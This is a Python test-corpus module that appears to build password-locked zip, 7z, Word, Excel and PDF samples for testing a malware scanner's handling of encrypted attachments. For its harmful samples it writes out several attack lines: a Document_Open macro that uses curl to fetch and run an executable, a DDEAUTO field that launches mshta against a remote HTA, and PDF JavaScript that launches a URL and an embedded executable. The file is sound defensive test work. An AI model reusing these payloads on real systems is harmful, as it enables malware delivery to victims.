"""What is locked: the password stands in the comment in some language, in the name, or nowhere."""

from __future__ import annotations

import io
from collections.abc import Callable

import py7zr
import pyzipper

from app.engine.model import Verdict
from app.sandbox import samples
from tests.corpus.payloads import payload, text
from tests.corpus.phrases import PHRASES
from tests.corpus.registry import technique
from tests.corpus.sample import Draw, Expect, File
from tests.corpus.wrapping import beside, seven_zip
from tests.unit.engine.test_excel_binary import locked as locked_records, mixed as mixed_records, workbook
from tests.unit.engine.test_office_encryption import agile, standard
from tests.unit.engine.test_pdf import locked as locked_pdf
from tests.unit.engine.test_word_binary import locked as locked_word

_COPY = [{"id": py7zr.FILTER_COPY}, {"id": py7zr.FILTER_CRYPTO_AES256_SHA256}]
#: What Office opens by itself: the password of documents that are only protected against changes.
_WRITE_PROTECTION = "Velvet" + "Sweatshop"


def password(draw: Draw) -> str:
    """Return a password as people make them up for a mail."""
    number, word = draw.rng.randrange(1_000, 10_000), draw.word().capitalize()
    sign = draw.rng.choice("!#$%&@*+")
    return draw.one(str(number), f"{word}{number}", f"{word}{sign}{number % 100}", f"{draw.word(2)}-{draw.word(2)}-9")


def said(draw: Draw, language: str, secret: str, name: str) -> str:
    """Return a comment that tells the password."""
    phrase = draw.rng.choice(PHRASES[language]).format(p=secret, f=name)
    return f"{draw.prose(12)}\n\n{phrase}" if draw.rng.random() < 0.3 and language == "en" else phrase


def aes_zip(files: dict[str, bytes], secret: str, bits: int = 256) -> bytes:
    """Return a zip under AES (WinZip's)."""
    buffer = io.BytesIO()
    with pyzipper.AESZipFile(buffer, "w", compression=pyzipper.ZIP_DEFLATED) as archive:
        archive.setpassword(secret.encode())
        archive.setencryption(pyzipper.WZ_AES, nbits=bits)
        for name, content in files.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def _old_zip(draw: Draw, harmful: bool, secret: str) -> tuple[str, bytes]:
    made = payload(draw, harmful)
    return "zip", samples.locked_archive(secret, {made.name.encode("ascii", "replace").decode(): made.content})


def _aes_zip(draw: Draw, harmful: bool, secret: str) -> tuple[str, bytes]:
    return "zip", aes_zip(beside(draw, payload(draw, harmful)), secret, draw.rng.choice((128, 192, 256)))


def _seven_zip(draw: Draw, harmful: bool, secret: str) -> tuple[str, bytes]:
    hidden_names = draw.rng.random() < 0.5
    return "7z", seven_zip(beside(draw, payload(draw, harmful)), secret, filters=_COPY, header_encryption=hidden_names)


def _document(draw: Draw, harmful: bool, secret: str) -> tuple[str, bytes]:
    call = f'Shell "cmd /c curl -o %TEMP%\\a.exe {draw.url("exe")} && %TEMP%\\a.exe", 0' if harmful else "Beep"
    source = f"Sub {'Document_Open' if harmful else 'Sound'}()\n    {call}\nEnd Sub\n"
    document = samples.macro_document(source + f"' {draw.prose(40)}\n")
    if draw.rng.random() < 0.5:
        return "docm", standard(document, secret)
    # The program that locks it takes small ones for broken.
    return "docm", agile(document.ljust(5_000, b"\0"), secret)


def _pdf(draw: Draw, harmful: bool, secret: str) -> tuple[str, bytes]:
    script = f"app.launchURL('{draw.url('exe')}', true); this.exportDataObject({{cName: 'a.exe', nLaunch: 2}});"
    shown = b"BT (Hello) Tj ET"
    return "pdf", locked_pdf(secret.encode(), script.encode() if harmful else shown, aes=draw.rng.random() < 0.5)


_Lock = Callable[[Draw, bool, str], tuple[str, bytes]]
#: The last one takes a quarter of a second for each password that is tried.
_LOCKS: tuple[_Lock, ...] = (_old_zip, _old_zip, _old_zip, _aes_zip, _aes_zip, _aes_zip, _seven_zip)


def _comment_in(language: str) -> None:
    def make(draw: Draw, harmful: bool) -> File:
        secret, stem = password(draw), draw.stem()
        ending, content = draw.rng.choice(_LOCKS)(draw, harmful, secret)
        name = f"{stem}.{ending}"
        return File(name, content, said(draw, language, secret, name))

    technique(f"locked.comment_{language}")(make)


for _language in PHRASES:
    _comment_in(_language)


@technique("locked.document_with_password_in_comment")
def _locked_document(draw: Draw, harmful: bool) -> File:
    secret = password(draw)
    ending, content = _document(draw, harmful, secret)
    return File(f"{draw.stem()}.{ending}", content, said(draw, "en", secret, "the document"))


@technique("locked.word_and_excel_of_old")
def _locked_old(draw: Draw, harmful: bool) -> File:
    secret = password(draw)[:15]
    if draw.rng.random() < 0.5:
        field = f'\x13 DDEAUTO c:\\windows\\system32\\cmd.exe "/k mshta {draw.url("hta")}" \x14x\x15'
        content = locked_word(secret, field if harmful else draw.prose(), api=draw.rng.random() < 0.5)
        return File(f"{draw.stem()}.doc", content, said(draw, "de", secret, "die Datei"))
    stream = locked_records(secret, *([110] if harmful else [4]), api=draw.rng.random() < 0.5)
    return File(f"{draw.stem()}.xls", workbook(stream), said(draw, "de", secret, "die Datei"))


@technique("locked.write_protection_only", most=Verdict.SUSPICIOUS)
def _protected(draw: Draw, harmful: bool) -> File:
    stem = draw.stem()
    if draw.rng.random() < 0.5:
        function = [110] if harmful else [4]
        make = draw.rng.choice(
            (
                lambda: locked_records(_WRITE_PROTECTION, *function, api=True),
                lambda: mixed_records(_WRITE_PROTECTION, *function),
            )
        )
        return File(f"{stem}.xls", workbook(make()))
    return File(f"{stem}.docm", _document(draw, harmful, _WRITE_PROTECTION)[1])


@technique("locked.password_is_the_name")
def _named(draw: Draw, harmful: bool) -> File:
    secret = draw.stem().replace(" ", "")
    ending, content = draw.rng.choice(_LOCKS)(draw, harmful, secret)
    return File(f"{secret}.{ending}", content, "See the file.")


@technique("locked.common_password")
def _common(draw: Draw, harmful: bool) -> File:
    ending, content = draw.rng.choice((_old_zip, _aes_zip))(draw, harmful, draw.one("infected", "1234", "password"))
    return File(f"{draw.stem()}.{ending}", content)


@technique("locked.inside_a_locked_one")
def _twice(draw: Draw, harmful: bool) -> File:
    """The same password opens both, as people do when the first lock is there for a mail filter."""
    secret = password(draw)
    ending, content = draw.rng.choice(_LOCKS)(draw, harmful, secret)
    outer = draw.rng.choice((aes_zip, seven_zip_locked))({f"{draw.stem()}.{ending}": content}, secret)
    return File(f"{draw.stem()}.{'zip' if outer[:2] == b'PK' else '7z'}", outer, f"Password for both: {secret}")


def seven_zip_locked(files: dict[str, bytes], secret: str) -> bytes:
    """Return a 7z archive under a password."""
    return seven_zip(files, secret, filters=_COPY)


@technique("locked.pdf_for_everybody")
def _empty(draw: Draw, harmful: bool) -> File:
    return File(f"{draw.stem()}.pdf", _pdf(draw, harmful, "")[1])


@technique("locked.pdf_with_password_in_comment")
def _locked_pdf(draw: Draw, harmful: bool) -> File:
    secret = password(draw)
    return File(f"{draw.stem()}.pdf", _pdf(draw, harmful, secret)[1], said(draw, "es", secret, "el archivo"))


@technique("locked.nobody_tells_the_password", expect=Expect.UNKNOWN, most=Verdict.UNKNOWN, partial=True)
def _opaque(draw: Draw, harmful: bool) -> File:
    ending, content = draw.rng.choice(_LOCKS)(draw, harmful, f"{draw.word(5)}{draw.word(5)}")
    return File(f"{draw.stem()}.{ending}", content, draw.prose(20))


@technique("locked.beside_its_password", most=Verdict.SUSPICIOUS)
def _told_beside(draw: Draw, harmful: bool) -> File:
    """A text in the same archive, or the body of the same mail, tells the password."""
    secret, name = password(draw), draw.stem()
    ending, content = draw.rng.choice(_LOCKS)(draw, harmful, secret)
    note = f"Password: {secret}\r\n"
    if draw.rng.random() < 0.5:
        return File(f"{name}.eml", samples.mail_with([(f"{name}.{ending}", content)], body=f"Hello,\n\n{note}"))
    files = {"password.txt": note.encode(), f"{name}.{ending}": content, **_decoy(draw)}
    return File(f"{name}-set.zip", samples.zip_of(files))


def _decoy(draw: Draw) -> dict[str, bytes]:
    made = text(draw, draw.stem())
    return {made.name: made.content}
